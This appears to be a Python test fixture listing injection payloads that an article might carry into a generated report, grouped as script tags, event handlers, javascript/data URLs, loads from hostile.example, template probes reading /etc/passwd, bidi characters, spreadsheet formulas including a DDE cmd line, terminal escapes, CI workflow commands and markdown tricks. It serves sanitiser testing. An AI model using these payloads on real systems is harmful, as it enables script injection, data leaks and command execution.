"""What an article could hold to change a report or to run in it; one payload for each trick.

A payload that ran would set `pwned` on the window, ask for hostile.example, or open a dialog.
"""

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "</script><script>window.pwned=1</script>",
    "<script src=//hostile.example/x.js></script>",
    "<script type=module>window.pwned=1</script>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "\x00<script>window.pwned=1</script>",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "＜script＞window.pwned=1＜/script＞",
)
HANDLERS = (
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<body onpageshow=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    '" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1",
    "` onfocus=window.pwned=1 `",
    '"><img src=x onerror=window.pwned=1>',
    "<a href=x onclick=window.pwned=1 id=pager>x</a>",
)
ADDRESSES = (
    '<a href="javascript:window.pwned=1">x</a>',
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    '<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=//hostile.example/></object>",
    "<embed src=//hostile.example/>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//hostile.example/'>",
    "<base href=//hostile.example/>",
    "<form action=//hostile.example/><button>go</button></form>",
    "<img src=//hostile.example/x.png srcset=//hostile.example/y.png>",
)
STYLES = (
    "</style><style>*{display:none}</style>",
    "<style>@import '//hostile.example/x.css';</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    "url(//hostile.example/x.png)",
    "expression(window.pwned=1)",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(asctime)s %s %n {0.__class__}",
)
DIRECTIONS = (
    "\u202egnp.exe",
    "a\u2066b\u2069\u2067c",
    "\u200fright\u200e",
    "zero\u200bwidth\ufeff",
    "tag\U000e0041\U000e007f",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://hostile.example/","x")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"\n=1+1',
    ";=1+1",
)
SEQUENCES = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://hostile.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "over\rwritten",
    "back\x08\x08space",
    "\x07bell",
)
COMMANDS = (
    "::error file=x::y",
    "\n::set-output name=x::y",
    "%0A::add-mask::y",
    "##[error]x",
    "::endgroup::\r\n::stop-commands::z",
)
MARKDOWN = (
    "[x](javascript:window.pwned=1)",
    "![x](http://hostile.example/x.png)",
    "<http://hostile.example/>",
    "`</code><script>window.pwned=1</script>`",
    "``` \n<script>window.pwned=1</script>\n```",
    "| a | b |\n|---|---|",
    "# heading",
    "@everyone #1",
    "[x]: http://hostile.example/ 'x'",
)
PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *STYLES,
    *TEMPLATES,
    *DIRECTIONS,
    *FORMULAS,
    *SEQUENCES,
    *COMMANDS,
    *MARKDOWN,
)
